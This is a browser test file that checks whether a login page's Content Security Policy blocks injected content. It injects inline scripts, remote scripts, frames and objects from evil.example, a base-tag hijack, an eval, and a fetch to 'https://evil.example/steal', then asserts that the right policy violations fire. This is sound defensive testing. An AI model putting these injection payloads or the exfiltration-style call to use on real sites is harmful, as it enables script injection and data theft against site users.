import { expect, test } from "../support/test.ts";

test("injected scripts, frames and calls elsewhere do nothing in a real browser", async ({ page, trap }) => {
  trap.allow(/Content Security Policy|violates|Refused|blocked/i);
  await page.goto("/auth");
  await page.evaluate(() => {
    const broken: string[] = [];
    Object.assign(window, { broken });
    document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
    const add = (tag: string, attributes: Record<string, string>, text = "") => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    add("script", {}, "document.title = 'run';");
    add("script", { src: "https://evil.example/x.js" });
    add("script", { src: "data:text/javascript,document.title='run'" });
    add("button", { onclick: "document.title = 'run'" }).click();
    add("iframe", { src: "https://evil.example/" });
    add("object", { data: "https://evil.example/x.swf" });
    add("base", { href: "https://evil.example/" });
    fetch("https://evil.example/steal").catch(() => {});
    // The test's own evaluate may use eval; a task of the page may not.
    setTimeout(() => new Function("document.title = 'run'")());
  });
  const directives = () => page.evaluate(() => [...new Set((window as unknown as { broken: string[] }).broken)].sort());
  await expect
    .poll(directives)
    .toEqual([
      "base-uri",
      "connect-src",
      "frame-src",
      "object-src",
      "script-src",
      "script-src-attr",
      "script-src-elem",
    ]);
  const after = await page.evaluate(() => ({
    title: document.title,
    base: document.baseURI,
  }));
  expect(after.title).not.toBe("run");
  expect(after.base).not.toContain("evil");
});
